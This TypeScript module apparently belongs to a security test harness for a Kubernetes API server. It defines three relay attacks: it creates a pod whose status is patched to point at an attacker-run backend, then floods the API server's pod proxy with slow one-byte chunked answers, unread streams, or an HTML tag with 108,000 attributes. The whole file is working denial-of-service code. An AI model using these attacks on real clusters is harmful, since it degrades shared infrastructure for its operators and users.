/** What somebody known does who also is what his requests are handed on to, by name. */
import { createServer, type Socket } from "node:net";
import { networkInterfaces } from "node:os";
import type { Credentials } from "../support/api-client.js";
import type { Attacker } from "../support/attacker.js";
import { type Attack, keep, pause, pour } from "./attacks.js";

const PODS = "/api/v1/namespaces/default/pods";
const RELAYS = 60;
/** How long each relay goes on, in milliseconds. */
const RELAY_MS = 5000;
const ATTRIBUTES = 108_000;

const head = (type: string): string => `HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\ntransfer-encoding: chunked\r\n\r\n`;
const bytes = Buffer.from("1\r\na\r\n".repeat(8192));
const tag = `<a ${Array.from({ length: ATTRIBUTES }, (_, i) => i.toString(36)).join(" ")}`;

/** Creates a pod that runs at an address, by the objects' JSON. */
async function createPod(attacker: Attacker, credentials: Credentials, name: string, ip: string): Promise<void> {
  const pod = { metadata: { name }, spec: { containers: [{ name: "c", image: "i" }] } };
  const status = { status: { podIP: ip, podIPs: [{ ip }], phase: "Running" } };
  await ask(attacker, credentials, `POST ${PODS}`, "json", pod);
  await ask(attacker, credentials, `PATCH ${PODS}/${name}/status`, "merge-patch+json", status);
}

async function ask(attacker: Attacker, credentials: Credentials, asked: string, type: string, object: object): Promise<void> {
  const body = JSON.stringify(object);
  const socket = await attacker.tls("http/1.1", credentials);
  const answered = new Promise<Buffer>((resolve) => socket.once("data", resolve));
  socket.write(`${asked} HTTP/1.1\r\nhost: x\r\ncontent-type: application/${type}\r\ncontent-length: ${body.length}\r\n\r\n${body}`);
  const line = (await answered).toString("latin1").split("\r\n")[0] ?? "";
  socket.destroy();
  if (!/^HTTP\/1.1 2/.test(line)) throw new Error(`${asked}: ${line}`);
}

/** Requests that are handed on to a backend of his, which answers as `answer` does; the clients read, or do not. */
const relays =
  (answer: (socket: Socket, isOver: () => boolean) => unknown, isRead: boolean) =>
  (credentials: Credentials): Attack =>
  async (attacker, isOver) => {
    const own = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
    const ip = own.find(({ family, internal }) => family === "IPv4" && !internal)?.address;
    if (ip === undefined) throw new Error("a machine whose only address is its own for itself is none that is relayed to");
    const backend = createServer((socket) => {
      socket.on("error", () => undefined);
      socket.once("data", () => answer(socket, isOver));
    });
    await new Promise<void>((resolve) => backend.listen(0, ip, resolve));
    const { port } = backend.address() as { port: number };
    await createPod(attacker, credentials, `attacker-${port}`, ip);
    await keep(RELAYS, async () => {
      const socket = await attacker.tls("http/1.1", credentials);
      if (isRead) socket.resume();
      else socket.pause();
      socket.write(`GET ${PODS}/attacker-${port}:${port}/proxy/ HTTP/1.1\r\nhost: x\r\n\r\n`);
      await pause(RELAY_MS);
      socket.destroy();
    })(attacker, isOver);
  };

const inBytes = (socket: Socket, isOver: () => boolean) => pour(socket, isOver, (index) => (index === 0 ? head("text/plain") : bytes));

export const RELAY_ATTACKS: Readonly<Record<string, (credentials: Credentials) => Attack>> = {
  "somebody known: 60 proxied answers in chunks of one byte": relays(inBytes, true),
  "somebody known: 60 proxied answers in chunks of one byte that nobody reads": relays(inBytes, false),
  "somebody known: 60 proxied pages that end in a tag with 108,000 attributes": relays(
    (socket) => socket.write(`${head("text/html")}${tag.length.toString(16)}\r\n${tag}\r\n`),
    true,
  ),
};
